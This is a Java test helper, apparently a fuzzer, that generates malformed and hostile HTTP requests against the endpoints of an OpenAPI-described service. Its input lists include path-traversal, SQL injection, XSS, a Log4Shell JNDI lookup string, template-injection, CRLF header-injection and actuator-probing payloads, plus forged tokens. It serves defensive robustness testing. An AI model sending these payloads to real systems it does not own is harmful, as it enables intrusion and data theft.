package guichet.intake.http;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_8;

import guichet.chassis.door.Tokens;

import org.yaml.snakeyaml.Yaml;

import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URLEncoder;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.stream.Collectors;

/**
 * Requests of all kinds, from good ones to noise, for the endpoints of an OpenAPI description; the
 * same for the same random numbers.
 */
final class OddRequests {

    private static final JsonMapper JSON = JsonMapper.shared();

    private static final List<String> TEXTS =
            List.of(
                    "",
                    " ",
                    "x",
                    "null",
                    "0",
                    "-1",
                    "NaN",
                    "../../../../etc/passwd",
                    "..%2f..%2fetc%2fpasswd",
                    "%00",
                    "%c0%ae%c0%ae/",
                    "a\u0000b",
                    "\uD800",
                    "\u202Egpj.exe",
                    "Ω≈ç√ 漢字 🙂",
                    "' OR 1=1 --",
                    "<script>alert(1)</script>",
                    "${jndi:ldap://example.com/a}",
                    "#{T(example.Runtime)}",
                    "{{7*7}}",
                    "2026-11-24T17:00:00Z",
                    "9999-12-31T23:59:59Z",
                    "+14155552671",
                    "ana@example.com",
                    "xn--nxasmq6b",
                    "https://[::1]:99999/",
                    "%s%n%d",
                    "\r\nX-Injected: yes");

    private static final List<String> TYPES =
            List.of(
                    "application/json",
                    "application/json;charset=utf-16",
                    "application/json; charset=no-such",
                    "application/xml",
                    "text/plain",
                    "application/x-www-form-urlencoded",
                    "multipart/form-data",
                    "multipart/form-data; boundary=",
                    "multipart/form-data; boundary=b",
                    "multipart/mixed; boundary=\"b",
                    "application/octet-stream",
                    "*/*",
                    "nonsense",
                    "/",
                    "");

    private static final List<String> METHODS =
            List.of("GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "BREW");

    private static final String KNOWN_CODING = "chunked";

    /**
     * A request.
     *
     * @param bytes as it goes over the wire
     * @param mayAnswer the statuses of failure that would be no fault of the service
     */
    record OddRequest(byte[] bytes, Set<Integer> mayAnswer) {

        @Override
        public String toString() {
            return new String(bytes, ISO_8859_1);
        }
    }

    private record Endpoint(
            String method,
            String path,
            List<String> query,
            List<JsonNode> bodies,
            Set<Integer> failures) {

        private boolean takes(String methodSent, String pathSent) {
            return (methodSent.equals("HEAD") ? "GET" : methodSent).equals(method)
                    && pathSent.matches(path.replaceAll("\\{\\w+}", "[^/]+"));
        }
    }

    private final Random random;
    private final List<Endpoint> endpoints = new ArrayList<>();
    private final List<String> tokens =
            List.of(
                    Tokens.customer("TEAM"),
                    Tokens.customer("TEAM"),
                    Tokens.withScope("supervisor"),
                    Tokens.withScope("supervisor"),
                    Tokens.expired("customer"),
                    Tokens.forged("customer"),
                    "a.b.c",
                    "");

    OddRequests(Path description, Random random) throws IOException {
        this.random = random;
        JsonNode document =
                JSON.valueToTree(new Yaml().<Object>load(Files.readString(description)));
        document.get("paths")
                .forEachEntry(
                        (path, operations) ->
                                operations.forEachEntry(
                                        (method, operation) ->
                                                endpoints.add(
                                                        endpoint(
                                                                document, method, path,
                                                                operation))));
    }

    /** The next one. */
    OddRequest next() {
        if (oneIn(50)) {
            return new OddRequest(noise(random.nextInt(2_000)), Set.of());
        }
        Endpoint endpoint = one(endpoints);
        byte[] body = body(endpoint);
        String line = requestLine(endpoint);
        Map<String, String> headers = headers(endpoint, body.length);
        ByteArrayOutputStream request = new ByteArrayOutputStream();
        write(request, line);
        headers.forEach((name, value) -> write(request, name + ": " + value + "\r\n"));
        write(request, "\r\n");
        request.writeBytes(body);
        return new OddRequest(request.toByteArray(), failures(line, headers));
    }

    /**
     * Those that the description declares for what is called, and 501, which RFC 9112 wants for a
     * transfer coding that the container does not have.
     */
    private Set<Integer> failures(String requestLine, Map<String, String> headers) {
        String[] sent = requestLine.split("[ ?]");
        Set<Integer> failures = new HashSet<>();
        endpoints.stream()
                .filter(endpoint -> endpoint.takes(sent[0], sent[1]))
                .forEach(endpoint -> failures.addAll(endpoint.failures()));
        if (!headers.getOrDefault("Transfer-Encoding", KNOWN_CODING).equals(KNOWN_CODING)) {
            failures.add(501);
        }
        return failures;
    }

    private String requestLine(Endpoint endpoint) {
        String method = oneIn(10) ? one(METHODS) : endpoint.method();
        String path = endpoint.path().replaceAll("\\{\\w+}", "some-id");
        if (oneIn(8)) {
            path =
                    endpoint.path().replaceAll("\\{\\w+}", "x")
                            + one(
                                    List.of(
                                            "/",
                                            "//",
                                            ";a=b",
                                            "/..",
                                            "/%2e%2e/",
                                            "%00",
                                            "/../../actuator/env",
                                            "/" + encoded(one(TEXTS)),
                                            "\\..\\",
                                            "x".repeat(random.nextInt(20_000))));
        }
        StringBuilder query = new StringBuilder();
        for (String name : endpoint.query()) {
            if (!oneIn(3)) {
                query.append(query.isEmpty() ? '?' : '&').append(name).append('=');
                query.append(
                        switch (random.nextInt(4)) {
                            case 0 ->
                                    one(List.of("en", "CHAT", "TEAM", "billing", "Europe/Madrid"));
                            case 1 -> raw(one(TEXTS));
                            default -> encoded(one(TEXTS));
                        });
            }
        }
        if (oneIn(20)) {
            query.append(query.isEmpty() ? '?' : '&').append(encoded(one(TEXTS))).append("=%zz");
        }
        return "%s %s%s HTTP/1.1\r\n".formatted(method, path, query);
    }

    private Map<String, String> headers(Endpoint endpoint, int length) {
        Map<String, String> headers = new LinkedHashMap<>();
        headers.put("Host", oneIn(30) ? raw(one(TEXTS)) : "localhost");
        headers.put("Connection", "close");
        if (!oneIn(4)) {
            headers.put("Authorization", "Bearer " + one(tokens));
        }
        if (!endpoint.bodies().isEmpty() || oneIn(10)) {
            headers.put("Content-Type", oneIn(4) ? one(TYPES) : "application/json");
        }
        if (oneIn(3)) {
            headers.put(
                    "Idempotency-Key", oneIn(2) ? "odd-" + random.nextInt(50) : raw(one(TEXTS)));
        }
        if (oneIn(5)) {
            headers.put(
                    "Accept", one(List.of("application/json", "text/html", "image/*;q=2", "x")));
        }
        if (oneIn(5)) {
            headers.put("Accept-Language", one(List.of("pt-BR, es;q=0.5", "*", "xx;q=9", ";;;")));
        }
        if (oneIn(20)) {
            headers.put("X-Huge", "x".repeat(random.nextInt(40_000)));
        }
        if (oneIn(20)) {
            headers.put("X" + raw(one(TEXTS)), raw(one(TEXTS)));
        }
        if (oneIn(15)) {
            headers.put(
                    "Transfer-Encoding", one(List.of(KNOWN_CODING, "gzip, chunked", "no-such")));
        } else {
            headers.put(
                    "Content-Length",
                    oneIn(30)
                            ? one(List.of("-1", "x", "99999999999999999999", "0"))
                            : Integer.toString(length));
        }
        if (oneIn(30)) {
            headers.put("Content-Encoding", one(List.of("gzip", "br", "no-such")));
        }
        if (oneIn(30)) {
            headers.put("Expect", "100-continue");
        }
        return headers;
    }

    private byte[] body(Endpoint endpoint) {
        if (endpoint.bodies().isEmpty() && !oneIn(10)) {
            return new byte[0];
        }
        String json = endpoint.bodies().isEmpty() ? "{}" : mutated(one(endpoint.bodies()));
        return switch (random.nextInt(12)) {
            case 0 -> noise(random.nextInt(5_000));
            case 1 -> json.getBytes(UTF_16);
            case 2 -> Arrays.copyOf(json.getBytes(UTF_8), random.nextInt(json.length() + 1));
            case 3 -> "[".repeat(random.nextInt(20_000)).getBytes(UTF_8);
            case 4 -> multipart();
            case 5 ->
                    "{\"a\":\"%s\"}".formatted("x".repeat(random.nextInt(700_000))).getBytes(UTF_8);
            default -> json.getBytes(UTF_8);
        };
    }

    /** A good body with some of its fields changed. */
    private String mutated(JsonNode good) {
        Map<String, Object> body = new LinkedHashMap<>();
        good.forEachEntry((name, value) -> body.put(name, oneIn(4) ? value() : value));
        if (oneIn(5)) {
            body.put(one(TEXTS), value());
        }
        String json = JSON.writeValueAsString(body);
        return oneIn(10) ? json.replaceFirst(":", one(List.of("", "::", ":NaN,\"x\":"))) : json;
    }

    private Object value() {
        return switch (random.nextInt(9)) {
            case 0 -> random.nextLong();
            case 1 -> random.nextDouble() * 1e300;
            case 2 -> random.nextBoolean();
            case 3 -> List.of(one(TEXTS), 1, List.of());
            case 4 -> Map.of(one(TEXTS), one(TEXTS));
            case 5 -> one(TEXTS).repeat(random.nextInt(3_000));
            default -> one(TEXTS);
        };
    }

    private byte[] multipart() {
        String boundary = oneIn(4) ? "other" : "b";
        StringBuilder parts = new StringBuilder();
        for (int i = random.nextInt(4); i >= 0; i--) {
            parts.append("--%s\r\n".formatted(boundary))
                    .append(
                            "Content-Disposition: form-data; name=\"%s\"; filename=\"%s\"\r\n"
                                    .formatted(
                                            one(List.of("attachments", "ticket", "")), one(TEXTS)))
                    .append(oneIn(3) ? "" : "Content-Type: %s\r\n".formatted(one(TYPES)))
                    .append(oneIn(5) ? "" : "\r\n")
                    .append("x".repeat(random.nextInt(3_000)))
                    .append("\r\n");
        }
        return parts.append(oneIn(3) ? "" : "--%s--\r\n".formatted(boundary))
                .toString()
                .getBytes(UTF_8);
    }

    private static Endpoint endpoint(
            JsonNode document, String method, String path, JsonNode operation) {
        List<String> query = new ArrayList<>();
        operation
                .path("parameters")
                .forEach(
                        parameter -> {
                            JsonNode resolved =
                                    parameter.has("$ref")
                                            ? document.at(
                                                    parameter
                                                            .get("$ref")
                                                            .stringValue()
                                                            .substring(1))
                                            : parameter;
                            if (resolved.path("in").asString("").equals("query")) {
                                query.add(resolved.get("name").stringValue());
                            }
                        });
        List<JsonNode> bodies = new ArrayList<>();
        operation
                .at("/requestBody/content/application~1json/examples")
                .forEach(example -> bodies.add(example.get("value")));
        Set<Integer> failures =
                operation.get("responses").propertyNames().stream()
                        .map(Integer::valueOf)
                        .filter(status -> status >= 500)
                        .collect(Collectors.toSet());
        return new Endpoint(method.toUpperCase(Locale.ROOT), path, query, bodies, failures);
    }

    private byte[] noise(int length) {
        byte[] bytes = new byte[length];
        random.nextBytes(bytes);
        return bytes;
    }

    private boolean oneIn(int times) {
        return random.nextInt(times) == 0;
    }

    private <T> T one(List<T> choices) {
        return choices.get(random.nextInt(choices.size()));
    }

    /** As UTF-8, byte for byte, without what would end the line. */
    private static String raw(String text) {
        return new String(text.getBytes(UTF_8), ISO_8859_1).replaceAll("[\r\n ]", "");
    }

    private static String encoded(String text) {
        return URLEncoder.encode(text, UTF_8);
    }

    private static void write(ByteArrayOutputStream out, String text) {
        out.writeBytes(text.getBytes(ISO_8859_1));
    }
}
